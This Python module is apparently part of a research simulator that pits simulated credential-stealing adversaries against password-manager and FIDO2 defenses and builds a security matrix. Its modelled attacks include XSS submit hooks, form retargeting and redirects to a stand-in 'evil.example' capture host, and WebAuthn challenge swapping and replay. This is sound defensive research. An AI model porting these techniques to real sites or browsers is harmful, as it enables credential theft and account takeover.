"""Local adversaries and the security matrix they produce.

Three password-stealing adversary classes run against five defense modes:

- dom_observer: honest-but-curious page script, passive field reads
- dom_exfiltrator: injected script with full DOM control (reads, submit
  hooks, field renames, form retargeting)
- webrequest_exfiltrator: an extension holding webRequest, listening and
  optionally cancelling or redirecting

Each adversary has a small, finite set of plans (8, 128 and 381).
Strategy i of a (mode, adversary) cell runs plan i modulo that count, so
DEFAULT_STRATEGIES, the largest count, runs every plan in every cell.
Plan 0 is what a scenario row runs by default. The leak verdict never
trusts attacker code: an independent checker scans everything the
attacker's scripts observed, its extension saw in stage views, and its
collection server received, for the real secrets. Outcomes carry sha256 digests of leaked values, never the values.

Two FIDO2 adversaries are evaluated separately: fido2_dom overrides the
page's WebAuthn entry points, fido2_request intercepts the finish request
from the pipeline. Both try to hijack a registration and a login.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple, Optional, Sequence

from .dom import (
    AddField,
    FieldKind,
    HookKind,
    Provenance,
    RegisterSubmitHook,
    RenameField,
    ScriptHandle,
    SetFormAction,
    SubmitHook,
    DuplicateField,
    attach_script,
    build_request,
    read_rendered_text,
    script_read_field,
    script_mutate,
)
from .extensions import Extension, ExtensionManifest, Permission
from .fido2 import (
    AUTHENTICATION,
    HEADER_REQUEST,
    REGISTRATION,
    AuthenticatorDevice,
    Fido2Request,
    MalformedPayload,
    RelyingParty,
    response_from_json,
)
from .http_model import Origin, Url, sha256_hex, urlencode_entries
from .pipeline import (
    EVENT_SUBSTITUTION,
    EVENT_SUBSTITUTION_REFUSED,
    Cancel,
    DefenseMode,
    Redirect,
    Stage,
    StageView,
    TranscriptEvent,
)
from .rng import derive_seed, substream
from .session import BrowserSession, FlowResult
from .sites import LOGIN_CATEGORIES, ServerFarm, SiteProfile, build_login_page, site_vault_entry

__all__ = [
    "AttackOutcome",
    "AttackScenario",
    "DEFAULT_STRATEGIES",
    "EXPECTED_MATRIX",
    "FIDO2_ADVERSARIES",
    "GoldenFormatError",
    "MatrixCell",
    "MatrixReport",
    "PASSWORD_ADVERSARIES",
    "evaluate_matrix",
    "find_leaks",
    "load_expected_matrix",
    "run_fido2_scenario",
    "run_reflection_attack",
    "run_scenario",
]

PASSWORD_ADVERSARIES = ("dom_observer", "dom_exfiltrator", "webrequest_exfiltrator")
FIDO2_ADVERSARIES = ("fido2_dom", "fido2_request")


class GoldenFormatError(ValueError):
    """A golden matrix file cannot be read or lacks a valid verdict for a cell."""


def load_expected_matrix(path: str | Path) -> dict[str, dict[str, str]]:
    """Read a golden `matrix.json`: {"cells": {defense: {adversary: verdict}}}.

    Every DefenseMode x PASSWORD_ADVERSARIES cell must hold "protected" or
    "unprotected"; other keys are ignored.
    """
    try:
        cells = json.loads(Path(path).read_text(encoding="utf-8"))["cells"]
    except (OSError, ValueError, KeyError, TypeError) as exc:
        raise GoldenFormatError(f"unreadable golden matrix {path}: {exc}") from exc
    expected: dict[str, dict[str, str]] = {}
    for mode in DefenseMode:
        for adversary in PASSWORD_ADVERSARIES:
            try:
                verdict = cells[mode.value][adversary]
            except (KeyError, TypeError):
                verdict = None
            if verdict not in ("protected", "unprotected"):
                found = "missing" if verdict is None else repr(verdict)
                raise GoldenFormatError(
                    f"golden matrix {path}: cell {mode.value}/{adversary} is {found},"
                    " want protected|unprotected"
                )
            expected.setdefault(mode.value, {})[adversary] = verdict
    return expected


# cell verdicts the design is expected to produce
EXPECTED_MATRIX = load_expected_matrix(Path(__file__).parent / "golden" / "matrix.json")

EXPECTED_FIDO2_CELLS: dict[str, dict[str, str]] = {
    "legacy": {"fido2_dom": "unprotected", "fido2_request": "unprotected"},
    "header_channel": {"fido2_dom": "protected", "fido2_request": "protected"},
}

ATTACKER_EXTENSION_ID = "evil.collector"
CAPTURE_ORIGIN = Origin("https", "evil.example", 443)
# the webRequest attacker's manifest (frozen, so shared)
_ATTACKER_MANIFEST = ExtensionManifest(
    ATTACKER_EXTENSION_ID, frozenset({Permission.WEB_REQUEST})
)


class AttackScenario(NamedTuple):
    name: str
    adversary: str
    defense_mode: DefenseMode
    seed: int
    strategy_index: int = 0
    site_category: str = "plain_post"


class AttackOutcome(NamedTuple):
    """What one attack run achieved. Leaked values appear as digests only."""

    scenario: str
    adversary: str
    defense: str
    secret_leaked: bool
    leaked_digests: tuple[str, ...] = ()
    attacker_login: bool = False
    attacker_registered: bool = False
    notes: tuple[str, ...] = ()

    @property
    def compromised(self) -> bool:
        """The attacker leaked the secret or logged in or registered as the user."""
        return self.secret_leaked or self.attacker_login or self.attacker_registered


def find_leaks(
    secrets: Sequence[str], observations: Sequence[str]
) -> tuple[tuple[str, ...], bool]:
    """Scan attacker-visible text for secrets; return digests of any hits.

    Each secret is matched both verbatim and in its form-encoded shape, so
    secrets survive detection inside percent-encoded request bodies.
    """
    leaked: set[str] = set()
    for secret in secrets:
        if not secret:
            continue
        encoded = urlencode_entries((("k", secret),))[2:]
        for text in observations:
            if secret in text or encoded in text:
                leaked.add(secret)
                break
    return tuple(sorted(sha256_hex(s) for s in leaked)), bool(leaked)


# ---------------------------------------------------------------------------
# password adversaries
# ---------------------------------------------------------------------------


class _ScenarioContext(NamedTuple):
    session: BrowserSession
    page: object
    form_id: str
    capture_sink: list[str]


class _PasswordAgent:
    """Shared scaffolding: a plan of moves, executed around the login flow.

    An agent has `plans` distinct plans; plan index i runs plan i % plans.
    """

    plans: int

    def __init__(self) -> None:
        self.scripts: list[ScriptHandle] = []
        self.extension: Optional[Extension] = None

    def pre_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
        pass

    def post_autofill(self, ctx: _ScenarioContext) -> None:  # pragma: no cover - default
        pass

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        pass

    def observations(self, ctx: _ScenarioContext) -> list[str]:
        out: list[str] = []
        for script in self.scripts:
            out.extend(script.log)
        if self.extension is not None:
            out.extend(str(item) for item in self.extension.observations)
        out.extend(ctx.capture_sink)
        return out

    # helpers ---------------------------------------------------------------

    def _read_fields(self, ctx: _ScenarioContext, script: ScriptHandle) -> None:
        for field_name in ("password", "username"):
            try:
                script_read_field(script, ctx.page, ctx.form_id, field_name)
            except KeyError:
                pass


class _FlagAgent(_PasswordAgent):
    """A plan is the set of MOVES the agent makes. Bit k of the plan index
    flips MOVES[k] from how PLAN0 sets it, so plan 0 makes the PLAN0 moves."""

    MOVES: tuple[str, ...]
    PLAN0: frozenset[str]

    def __init__(self, plan_index: int) -> None:
        super().__init__()
        bits = plan_index % self.plans
        self.plan = frozenset(
            move
            for bit, move in enumerate(self.MOVES)
            if (move in self.PLAN0) != bool(bits >> bit & 1)
        )


class _DomObserverAgent(_FlagAgent):
    """Passive page library: reads what the DOM will give it, nothing more."""

    adversary = "dom_observer"
    MOVES = ("read_pre", "read_post", "read_rendered")
    PLAN0 = frozenset(MOVES)
    plans = 1 << len(MOVES)

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        script = ScriptHandle("analytics.js", Provenance.LIBRARY)
        attach_script(ctx.page, script)
        self.scripts.append(script)
        if "read_pre" in self.plan:
            self._read_fields(ctx, script)

    def post_autofill(self, ctx: _ScenarioContext) -> None:
        if "read_post" in self.plan:
            self._read_fields(ctx, self.scripts[0])

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        if "read_rendered" in self.plan:
            read_rendered_text(self.scripts[0], ctx.page)


class _DomExfiltratorAgent(_FlagAgent):
    """Injected script with full DOM control over the login page."""

    adversary = "dom_exfiltrator"
    MOVES = (
        "read_post", "hook_pre", "hook_post", "rename", "retarget", "add_field", "read_rendered"
    )
    # the late submit hook is the strongest move: it fires after any in-page
    # value swap a defense may have installed
    PLAN0 = frozenset({"read_post", "hook_post", "read_rendered"})
    plans = 1 << len(MOVES)

    def _hook(self, ctx: _ScenarioContext) -> None:
        hook = SubmitHook(kind=HookKind.CAPTURE_FIELDS, sink=self.scripts[0])
        script_mutate(self.scripts[0], ctx.page, RegisterSubmitHook(ctx.form_id, hook))

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        script = ScriptHandle("xss-payload", Provenance.XSS)
        attach_script(ctx.page, script)
        self.scripts.append(script)
        if "hook_pre" in self.plan:
            self._hook(ctx)
        if "add_field" in self.plan:
            try:
                script_mutate(script, ctx.page, AddField(ctx.form_id, "tracker", FieldKind.HIDDEN, "1"))
            except DuplicateField:
                pass

    def post_autofill(self, ctx: _ScenarioContext) -> None:
        script = self.scripts[0]
        if "read_post" in self.plan:
            self._read_fields(ctx, script)
        if "hook_post" in self.plan:
            self._hook(ctx)
        if "rename" in self.plan:
            try:
                script_mutate(script, ctx.page, RenameField(ctx.form_id, "password", "q"))
            except (DuplicateField, KeyError):
                pass
        if "retarget" in self.plan:
            collect = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/collect")
            script_mutate(script, ctx.page, SetFormAction(ctx.form_id, collect))

    def post_response(self, ctx: _ScenarioContext, result: FlowResult) -> None:
        if "read_rendered" in self.plan:
            read_rendered_text(self.scripts[0], ctx.page)


_STEAL_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/steal")

# each blocking move of the webRequest attacker, and the blocking listener
# it registers at onBeforeRequest; the redirect spares requests already
# bound for the capture origin
_BLOCKING_MOVES = {
    "none": None,
    "redirect": lambda view: (
        None if view.url.startswith(str(CAPTURE_ORIGIN)) else Redirect(_STEAL_URL)
    ),
    "cancel": lambda view: Cancel("dropped"),
}


class _WebRequestExfiltratorAgent(_PasswordAgent):
    """Extension with webRequest: listens everywhere, may cancel or redirect.

    A plan is a non-empty set of stages to listen at and one blocking move.
    Plan index i splits as (left_out, move) = divmod(i, 3): bit k of
    `left_out` leaves list(Stage)[k] out, and `move` picks a key of
    _BLOCKING_MOVES in order. Plan 0 listens at every stage and blocks
    nothing; `left_out` stops short of leaving out all seven stages.
    """

    adversary = "webrequest_exfiltrator"
    plans = len(_BLOCKING_MOVES) * ((1 << len(Stage)) - 1)

    def __init__(self, plan_index: int) -> None:
        super().__init__()
        left_out, move = divmod(plan_index % self.plans, len(_BLOCKING_MOVES))
        self.stages = tuple(s for bit, s in enumerate(Stage) if not left_out >> bit & 1)
        self.blocking_move = list(_BLOCKING_MOVES)[move]

    def pre_autofill(self, ctx: _ScenarioContext) -> None:
        host = ctx.session.host
        self.extension = host.install(_ATTACKER_MANIFEST)
        for stage in self.stages:
            host.register_listener(ATTACKER_EXTENSION_ID, stage, lambda view: None)
        blocking = _BLOCKING_MOVES[self.blocking_move]
        if blocking is not None:
            host.register_listener(
                ATTACKER_EXTENSION_ID, Stage.ON_BEFORE_REQUEST, blocking, blocking=True
            )


_AGENTS = {
    "dom_observer": _DomObserverAgent,
    "dom_exfiltrator": _DomExfiltratorAgent,
    "webrequest_exfiltrator": _WebRequestExfiltratorAgent,
}
# the largest plan count: this many strategies per cell run every plan
DEFAULT_STRATEGIES = max(agent.plans for agent in _AGENTS.values())


# the attacked site of each login category, built once
_TARGETS = {
    category: SiteProfile("target", category, Origin("https", "site.example", 443))
    for category in LOGIN_CATEGORIES
}


def run_scenario(scenario: AttackScenario) -> AttackOutcome:
    """One login under attack; returns what the adversary got away with."""
    profile = _TARGETS.get(scenario.site_category)
    if profile is None:
        raise ValueError(f"not a login site category: {scenario.site_category!r}")
    entry = site_vault_entry(profile, scenario.seed)
    farm = ServerFarm(scenario.seed)
    farm.add_site(profile, entry.password)
    capture_sink: list[str] = []
    farm.add_capture_origin(CAPTURE_ORIGIN, capture_sink)
    session = BrowserSession(
        scenario.seed, scenario.defense_mode, [entry], farm.serve, name="victim"
    )
    page, form_id = build_login_page(session, profile)
    ctx = _ScenarioContext(session, page, form_id, capture_sink)
    agent = _AGENTS[scenario.adversary](scenario.strategy_index)
    agent.pre_autofill(ctx)
    session.autofill(page, form_id)
    agent.post_autofill(ctx)
    result = session.submit(page, form_id)
    agent.post_response(ctx, result)
    leaked_digests, leaked = find_leaks([entry.password], agent.observations(ctx))
    return AttackOutcome(
        scenario=scenario.name,
        adversary=scenario.adversary,
        defense=scenario.defense_mode.value,
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        notes=("cancelled",) if result.cancelled else (),
    )


# ---------------------------------------------------------------------------
# the matrix
# ---------------------------------------------------------------------------


class MatrixCell(NamedTuple):
    defense: str
    adversary: str
    strategies: int
    leaks: int

    @property
    def verdict(self) -> str:
        return "unprotected" if self.leaks else "protected"


class MatrixReport(NamedTuple):
    seed: int
    strategies_per_cell: int
    cells: list[MatrixCell]

    def verdict(self, defense: str, adversary: str) -> str:
        for cell in self.cells:
            if cell.defense == defense and cell.adversary == adversary:
                return cell.verdict
        raise KeyError((defense, adversary))

    def verdicts(self) -> dict[str, dict[str, str]]:
        out: dict[str, dict[str, str]] = {}
        for cell in self.cells:
            out.setdefault(cell.defense, {})[cell.adversary] = cell.verdict
        return out

    def mismatches(self, expected: dict[str, dict[str, str]] = EXPECTED_MATRIX) -> list[str]:
        problems = []
        for defense, row in expected.items():
            for adversary, verdict in row.items():
                try:
                    got = self.verdict(defense, adversary)
                except KeyError:
                    problems.append(f"{defense}/{adversary}: missing")
                    continue
                if got != verdict:
                    problems.append(f"{defense}/{adversary}: expected {verdict}, got {got}")
        return problems

    def to_json(self) -> dict:
        return {
            "kind": "matrix",
            "seed": self.seed,
            "strategies_per_cell": self.strategies_per_cell,
            "cells": {
                cell.defense: {
                    c.adversary: {
                        "verdict": c.verdict,
                        "leaks": c.leaks,
                        "strategies": c.strategies,
                    }
                    for c in self.cells
                    if c.defense == cell.defense
                }
                for cell in self.cells
            },
        }

    def render_text(self) -> str:
        adversaries = list(PASSWORD_ADVERSARIES)
        width = max(len(a) for a in adversaries) + 2
        lines = [
            f"security matrix (seed={self.seed}, strategies per cell={self.strategies_per_cell})",
            "",
            "defense".ljust(20) + "".join(a.ljust(width) for a in adversaries),
        ]
        for defense in self.verdicts():
            row = defense.ljust(20)
            for adversary in adversaries:
                row += self.verdict(defense, adversary).ljust(width)
            lines.append(row.rstrip())
        return "\n".join(lines) + "\n"


def evaluate_matrix(
    seed: int,
    strategies_per_cell: int = DEFAULT_STRATEGIES,
    modes: Sequence[DefenseMode] = tuple(DefenseMode),
) -> MatrixReport:
    report = MatrixReport(seed, strategies_per_cell, [])
    for mode in modes:
        for adversary in PASSWORD_ADVERSARIES:
            leaks = 0
            for index in range(strategies_per_cell):
                scenario = AttackScenario(
                    name=f"{mode.value}/{adversary}/{index}",
                    adversary=adversary,
                    defense_mode=mode,
                    seed=derive_seed(seed, "matrix", mode.value, adversary, str(index)),
                    strategy_index=index,
                )
                if run_scenario(scenario).secret_leaked:
                    leaks += 1
            report.cells.append(
                MatrixCell(mode.value, adversary, strategies_per_cell, leaks)
            )
    return report


# ---------------------------------------------------------------------------
# the reflection attack
# ---------------------------------------------------------------------------


def run_reflection_attack(
    seed: int,
    *,
    pinning: bool,
    variant: str = "retarget",
    defense: DefenseMode = DefenseMode.DESIGN5_API_LATE,
) -> AttackOutcome:
    """Retarget or rename a login form so the site reflects the secret back.

    `retarget` points the form at an echo endpoint on the same origin;
    `rename` additionally moves the nonce into a field name the endpoint
    reflects. In every nonce mode, submit-URL pinning decides the retarget
    case and the field-name check decides the rename case regardless of
    pinning.
    """
    if variant not in ("retarget", "rename"):
        raise ValueError(f"unknown variant {variant!r}")
    reflect_option = ("reflect", "all" if variant == "retarget" else "username")
    profile = SiteProfile(
        site_id="forum",
        category="reflecting",
        origin=Origin("https", "forum.example", 443),
        options=(reflect_option,),
    )
    entry = site_vault_entry(profile, seed)
    farm = ServerFarm(seed)
    farm.add_site(profile, entry.password)
    session = BrowserSession(
        seed, defense, [entry], farm.serve, name="victim", pinning_enabled=pinning
    )

    # an earlier honest login teaches the manager the submit URL
    page1, form1 = build_login_page(session, profile)
    session.autofill(page1, form1)
    session.submit(page1, form1)

    page2, form2 = build_login_page(session, profile)
    session.autofill(page2, form2)
    script = ScriptHandle("xss-payload", Provenance.XSS)
    attach_script(page2, script)
    reflect_url = Url(profile.origin.scheme, profile.origin.host, profile.origin.port, "/reflect")
    script_mutate(script, page2, SetFormAction(form2, reflect_url))
    if variant == "rename":
        script_mutate(script, page2, RenameField(form2, "username", "q"))
        script_mutate(script, page2, RenameField(form2, "password", "username"))
    result = session.submit(page2, form2)
    read_rendered_text(script, page2)

    leaked_digests, leaked = find_leaks([entry.password], list(script.log))
    notes = [f"variant={variant}", f"pinning={'on' if pinning else 'off'}"]
    # every nonce mode writes its refusal to the transcript, as a browser
    # event; deliveries are skipped, so no body is hashed for this
    events = {e.label: e.digest for e in result.transcript.events if type(e) is TranscriptEvent}
    if EVENT_SUBSTITUTION_REFUSED in events:
        notes.append(f"refused_by_{events[EVENT_SUBSTITUTION_REFUSED]}")
    elif EVENT_SUBSTITUTION in events:
        notes.append("substitution_approved")
    if result.verdict is not None:
        notes.append(f"verdict={result.verdict}")
    return AttackOutcome(
        scenario=f"reflection/{variant}/pinning_{'on' if pinning else 'off'}",
        adversary="reflection",
        defense=defense.value,
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        notes=tuple(notes),
    )


# ---------------------------------------------------------------------------
# FIDO2 adversaries
# ---------------------------------------------------------------------------


class _CreateHijack:
    """Wraps the page WebAuthn surface; registrations run the attacker's key."""

    def __init__(self, original, attacker_device: AuthenticatorDevice, script: ScriptHandle):
        self.original = original
        self.attacker_device = attacker_device
        self.script = script

    def create(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        request = Fido2Request.from_json(payload_json)
        attestation = self.attacker_device.make_credential(request)
        out = attestation.to_json()
        self.script.observe(out)
        return out

    def get(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        return self.original.get(payload_json)


class _AssertHijack:
    """Swaps the attacker's challenge into whatever the page hands the API."""

    def __init__(self, original, attacker_challenge: bytes, script: ScriptHandle):
        self.original = original
        self.attacker_challenge = attacker_challenge
        self.script = script
        self.captured: list[str] = []

    def create(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        return self.original.create(payload_json)

    def get(self, payload_json: str) -> str:
        self.script.observe(payload_json)
        request = Fido2Request.from_json(payload_json)
        forged = request._replace(challenge=self.attacker_challenge)
        signed = self.original.get(forged.to_json())
        self.script.observe(signed)
        self.captured.append(signed)
        return "{}"  # the page gets junk; the attacker keeps the signature


def _out_of_band_finish(farm: ServerFarm, origin: Origin, payload_json: str) -> str:
    """The attacker submits a finish from its own machine, not the browser."""
    url = Url(origin.scheme, origin.host, origin.port, "/webauthn/finish")
    entries = (("webauthn", payload_json),)
    _, verdict = farm.serve(build_request(None, "POST", url, entries, 990_000))
    return verdict


def _out_of_band_begin(farm: ServerFarm, origin: Origin, kind: str, username: str) -> str:
    """Fetch a begin payload directly; header stripping never happens here."""
    url = Url(origin.scheme, origin.host, origin.port, "/webauthn/begin")
    query = (("kind", kind), ("username", username))
    response, _ = farm.serve(build_request(None, "GET", url, query, 990_001))
    header = response.header(HEADER_REQUEST)
    return header if header is not None else response.body.decode("utf-8")


def _account_is_attackers(rp: RelyingParty, username: str, device: AuthenticatorDevice) -> bool:
    stored = rp.accounts.get(username)
    return stored is not None and stored.credential_id in device.credentials


def _finish_body_value(view: StageView) -> Optional[str]:
    if view.form is None:
        return None
    return next((v for n, v in view.form.entries if n == "webauthn"), None)


class _Fido2Setup(NamedTuple):
    farm: ServerFarm
    session: BrowserSession
    page: object
    rp: RelyingParty
    origin: Origin


def _fido2_setup(
    defense_on: bool, seed: int, name: str, secrets: Optional[list[str]] = None
) -> _Fido2Setup:
    """The rp.example FIDO2 site on a new farm, a design5 session called
    `name`, and its login page. `secrets`, when given, becomes the witness
    list of both the relying party and the session's authenticator."""
    profile = SiteProfile("rp", "fido2", Origin("https", "rp.example", 443))
    farm = ServerFarm(seed)
    state = farm.add_site(profile, "unused-password", fido2_defense=defense_on)
    assert state.rp is not None
    state.rp.witness = secrets
    session = BrowserSession(seed, DefenseMode.DESIGN5_API_LATE, [], farm.serve, name=name)
    session.device.witness = secrets
    page, _ = build_login_page(session, profile)
    return _Fido2Setup(farm, session, page, state.rp, profile.origin)


def _grab_and_cancel(session: BrowserSession, captured: list[str]):
    extension = session.host.install(_ATTACKER_MANIFEST)

    def on_before_request(view: StageView):
        if view.url.endswith("/webauthn/finish") and view.method == "POST":
            value = _finish_body_value(view)
            if value is not None:
                captured.append(value)
            return Cancel("intercepted")
        return None

    session.host.register_listener(
        ATTACKER_EXTENSION_ID, Stage.ON_BEFORE_REQUEST, on_before_request, blocking=True
    )
    return extension


def _registration_hijack(
    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
) -> tuple[bool, list[str]]:
    setup = _fido2_setup(defense_on, seed, "victim", secrets)
    attacker_device = AuthenticatorDevice("attacker-device", substream(seed, "attacker-device"))
    notes: list[str] = []

    if adversary == "fido2_dom":
        script = ScriptHandle("xss-payload", Provenance.XSS)
        attach_script(setup.page, script)
        setup.page.webauthn = _CreateHijack(setup.page.webauthn, attacker_device, script)
        result = setup.session.fido2_register(setup.page, setup.origin, "victim")
        observations.extend(script.log)
        notes.append(f"victim_finish={result.verdict}")
        registered = _account_is_attackers(setup.rp, "victim", attacker_device)
    else:
        captured: list[str] = []
        extension = _grab_and_cancel(setup.session, captured)
        setup.session.fido2_register(setup.page, setup.origin, "victim")
        observations.extend(str(item) for item in extension.observations)
        observations.extend(captured)
        registered = False
        if captured:
            try:
                challenge = response_from_json(captured[-1]).challenge
            except MalformedPayload:
                challenge = None
            if challenge is not None:
                forged = Fido2Request(
                    kind=REGISTRATION,
                    challenge=challenge,
                    rp_id=setup.origin.host,
                    user_id=b"attacker",
                    user_name="victim",
                )
                attestation = attacker_device.make_credential(forged)
                verdict = _out_of_band_finish(setup.farm, setup.origin, attestation.to_json())
                notes.append(f"attacker_finish={verdict}")
                registered = verdict == "accepted" and _account_is_attackers(
                    setup.rp, "victim", attacker_device
                )
    return registered, notes


def _authentication_hijack(
    adversary: str, defense_on: bool, seed: int, secrets: list[str], observations: list[str]
) -> tuple[bool, list[str]]:
    setup = _fido2_setup(defense_on, seed, "victim", secrets)
    notes: list[str] = []

    honest = setup.session.fido2_register(setup.page, setup.origin, "victim")
    notes.append(f"honest_registration={honest.verdict}")

    if adversary == "fido2_dom":
        # the attacker opens its own login transaction directly with the
        # server; stripping only protects responses that cross the browser
        setup.rp.witness = None
        attacker_begin = _out_of_band_begin(setup.farm, setup.origin, AUTHENTICATION, "victim")
        setup.rp.witness = secrets
        attacker_challenge = Fido2Request.from_json(attacker_begin).challenge
        script = ScriptHandle("xss-payload", Provenance.XSS)
        attach_script(setup.page, script)
        hijack = _AssertHijack(setup.page.webauthn, attacker_challenge, script)
        setup.page.webauthn = hijack
        result = setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
        observations.extend(script.log)
        notes.append(f"victim_finish={result.verdict}")
        login = False
        if hijack.captured:
            verdict = _out_of_band_finish(setup.farm, setup.origin, hijack.captured[-1])
            notes.append(f"attacker_finish={verdict}")
            login = verdict == "accepted"
    else:
        captured: list[str] = []
        extension = _grab_and_cancel(setup.session, captured)
        setup.session.fido2_authenticate(setup.page, setup.origin, "victim")
        observations.extend(str(item) for item in extension.observations)
        observations.extend(captured)
        login = False
        if captured:
            verdict = _out_of_band_finish(setup.farm, setup.origin, captured[-1])
            notes.append(f"attacker_finish={verdict}")
            login = verdict == "accepted"
    return login, notes


def run_fido2_scenario(
    adversary: str, *, defense_on: bool, seed: int
) -> AttackOutcome:
    """Registration plus authentication hijack attempts for one adversary."""
    if adversary not in FIDO2_ADVERSARIES:
        raise ValueError(f"unknown FIDO2 adversary {adversary!r}")
    secrets: list[str] = []
    observations: list[str] = []
    registered, notes_a = _registration_hijack(
        adversary, defense_on, derive_seed(seed, "fido2", "registration"), secrets, observations
    )
    login, notes_b = _authentication_hijack(
        adversary, defense_on, derive_seed(seed, "fido2", "authentication"), secrets, observations
    )
    leaked_digests, leaked = find_leaks(secrets, observations)
    return AttackOutcome(
        scenario=f"fido2/{adversary}/{'defended' if defense_on else 'legacy'}",
        adversary=adversary,
        defense="header_channel" if defense_on else "legacy",
        secret_leaked=leaked,
        leaked_digests=leaked_digests,
        attacker_login=login,
        attacker_registered=registered,
        notes=tuple(notes_a + notes_b),
    )
